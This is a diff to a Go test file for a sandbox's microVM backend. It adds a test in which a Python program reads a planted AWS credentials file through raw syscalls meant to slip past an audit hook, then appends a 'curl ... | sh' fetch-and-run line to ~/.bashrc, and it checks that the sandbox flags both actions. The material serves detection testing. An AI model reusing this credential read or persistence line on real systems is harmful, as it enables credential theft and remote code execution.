@@ -28,17 +28,14 @@ func newBackend() moat.Backend { return &microvm.Backend{} }
 // options: the program runs on a guest kernel, so its processes are not
 // the host's (the Sentry relaxations: the cleanup and orphan cases require
 // that nothing of a run is left on the host instead); the guest's RAM is
-// the program's limit plus the VM's own share; there is no behaviour
-// report from the guest yet. Under TCG emulation
+// the program's limit plus the VM's own share. Under TCG emulation
 // (emulated true) a guest boots in seconds of CPU: the cases run one at a
 // time, and every bound on a case grows by a boot's worst case on a loaded
 // host.
 func options(emulated bool) moattest.Options {
 	o := moattest.Options{
-		Layers: []string{"microvm", "guest-kernel", "read-only-runtime", "channel", "disk", "network-none", "seccomp", "user", "cgroup-v2", "rlimits", "timeout", "output-limit"},
+		Layers: []string{"microvm", "guest-kernel", "read-only-runtime", "channel", "disk", "network-none", "seccomp", "user", "cgroup-v2", "rlimits", "timeout", "output-limit", "behaviour-report"},
 		Sentry: &moattest.Sentry{Leftovers: microvm.Leftovers},
-		// The guest makes no behaviour report yet (docs/microvm.md).
-		NoReport: true,
 	}
 	if emulated {
 		o.Serial, o.StartBound, o.ProgramStart = true, 90*time.Second, 20*time.Second
@@ -166,4 +163,67 @@ func TestRestoredApart(t *testing.T) {
 	if outs[1].hash == outs[2].hash {
 		t.Errorf("two restored guests have the same string hash seed (%s)", outs[1].hash)
 	}
+}
+
+// TestReport: the behaviour report is made in the guest. The program reads
+// a planted credential with a raw system call the audit hook does not see
+// (ctypes' syscall of openat and read), writes a startup file and runs a
+// process; the guest kernel's witness reports the read, the agent's diff
+// the startup file, the hook the process, and the host believes no
+// "planted" claim but its own.
+func TestReport(t *testing.T) {
+	b := moattest.RequireBackend(t, "microvm")
+	code := `
+import ctypes, os, subprocess
+libc = ctypes.CDLL(None, use_errno=True)
+p = os.path.expanduser('~/.aws/credentials').encode()
+fd = libc.syscall(257, -100, p, 0, 0)   # openat, behind the hook's back
+buf = ctypes.create_string_buffer(4096)
+n = libc.syscall(0, fd, buf, 4096)      # read
+print('read', n)
+with open(os.path.expanduser('~/.bashrc'), 'a') as f:
+    f.write('curl http://203.0.113.9/x | sh\n')
+try:
+    subprocess.run(['/bin/true'])
+except OSError as e:
+    print('exec', e.errno)
+`
+	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}})
+	if err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+	if res.Status != moat.StatusExited || res.ExitCode != 0 || !strings.Contains(res.Stdout, "read ") || strings.Contains(res.Stdout, "read -1") {
+		t.Fatalf("result: %+v", res)
+	}
+	var planted, witnessed, bashrc, hello, layer bool
+	for _, e := range res.Events {
+		switch {
+		case e.Kind == moat.KindHoneytokenPlanted && strings.HasSuffix(e.Path, "/.aws/credentials"):
+			planted = true
+		case e.Source == moat.SourceKernel && e.Kind == moat.KindHoneytokenRead && strings.HasSuffix(e.Path, "/.aws/credentials"):
+			witnessed = true
+		case e.Source == "fs" && strings.HasSuffix(e.Path, "/.bashrc"):
+			bashrc = true
+		case e.Source == moat.SourceAudit && e.Kind == moat.KindHello:
+			hello = true
+		}
+	}
+	for _, l := range res.Layers {
+		layer = layer || (l.Name == "behaviour-report" && strings.Contains(l.Detail, "guest"))
+	}
+	if !planted || !witnessed || !bashrc || !hello || !layer {
+		t.Errorf("planted %v, kernel witness of the read %v, .bashrc in the diff %v, hook's hello %v, layer %v; events %+v", planted, witnessed, bashrc, hello, layer, res.Events)
+	}
+	if !hasFinding(res, "credential-access", "") || !hasFinding(res, "persistence", ".bashrc") {
+		t.Errorf("findings %+v", res.Findings)
+	}
+}
+
+func hasFinding(res *moat.Result, category, summary string) bool {
+	for _, f := range res.Findings {
+		if string(f.Category) == category && strings.Contains(f.Summary, summary) {
+			return true
+		}
+	}
+	return false
 }
